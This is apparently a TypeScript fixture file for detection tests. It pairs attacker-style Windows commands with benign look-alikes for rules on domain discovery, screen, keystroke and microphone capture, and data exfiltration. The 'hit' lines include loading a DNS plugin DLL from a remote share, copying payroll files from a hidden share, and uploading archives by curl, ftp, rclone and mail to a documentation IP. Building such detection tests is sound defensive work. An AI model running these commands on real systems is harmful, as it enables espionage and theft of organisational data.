import type { Examples } from "../example.ts";
import { inArea, scripts, start, starts } from "./build.ts";

export const DISCOVERY_EXAMPLES: Examples = inArea({
  "domain-trusts-asked": starts(
    "nltest /domain_trusts /all_trusts",
    "nltest /sc_verify:corp.example",
  ),
  "directory-listed": scripts("Get-ADUser -Filter * -Properties mail", "Get-ADUser -Identity ann"),
  "privileged-group-listed": starts(
    `net group "domain admins" /domain`,
    `net group "print users" /domain`,
  ),
  "hosts-of-domain-listed": starts("net view /domain", String.raw`net view \\FS02`),
  "domain-asked": starts("net user ann /domain", "net user ann"),
  "dns-library-set": starts(
    String.raw`dnscmd dc01 /config /serverlevelplugindll \\10.3.3.3\s\p.dll`,
    "dnscmd dc01 /info /serverlevelplugindll",
  ),
  "privileges-asked": starts("whoami /priv", "whoami /upn"),
  "who-am-i-by-system": {
    hit: { ...start("whoami"), user: "NT AUTHORITY\\SYSTEM" },
    miss: { ...start("whoami"), user: "CORP\\ann" },
  },
  "host-surveyed": starts("ipconfig /all", String.raw`notepad.exe C:\notes\ipconfig.txt`),
  "clipboard-read": scripts("Get-Clipboard -Raw", "Set-Clipboard -Value $report"),
  "screen-captured": scripts(
    "$g.CopyFromScreen($b.Location,[Drawing.Point]::Empty,$b.Size)",
    "$g.DrawString($title,$font,$brush,0,0)",
  ),
  "keys-captured": scripts(
    String.raw`Get-Keystrokes -LogPath C:\Users\a\k.log`,
    "Get-Help Get-Keystrokes",
  ),
  "microphone-captured": scripts(
    String.raw`Get-MicrophoneAudio -Path C:\Users\a\m.wav -Length 30`,
    "Get-PnpDevice -Class AudioEndpoint",
  ),
  "network-captured": starts(
    String.raw`netsh trace start capture=yes tracefile=C:\Temp\cap.etl`,
    "netsh trace stop",
  ),
  "files-packed-with-password": starts(
    String.raw`7z.exe a -pQwe1 C:\ProgramData\d.7z D:\HR`,
    String.raw`7z.exe x -pQwe1 D:\in\delivery.7z`,
  ),
  "files-packed": starts(
    String.raw`7z.exe a D:\backup\web.7z D:\web`,
    String.raw`7z.exe x D:\backup\web.7z`,
  ),
  "files-copied-from-hidden-share": scripts(
    String.raw`Copy-Item \\FS09\Payroll$\2025.xlsx C:\ProgramData\2025.dat`,
    String.raw`Copy-Item \\FS09\deploy\agent.msi C:\install\agent.msi`,
  ),
  "files-sent-to-cloud": starts(
    String.raw`rclone.exe copy D:\Finance mega:f --transfers 8`,
    String.raw`rclone.exe copy backup:f D:\Finance --transfers 8`,
  ),
  "files-sent-out": starts(
    String.raw`curl.exe -T C:\out\o.7z https://203.0.113.9/up`,
    "curl.exe -s http://localhost:8080/health",
  ),
  "files-sent-by-script-of-ftp": starts(
    String.raw`ftp.exe -s:C:\Temp\f.txt 203.0.113.9`,
    "ftp.exe 203.0.113.9",
  ),
  "files-sent-by-mail": scripts(
    String.raw`Send-MailMessage -To x@mail.example -Attachments C:\PerfLogs\q4.zip`,
    "Send-MailMessage -To ops@corp.example -Subject 'backup done' -Body $log",
  ),
});
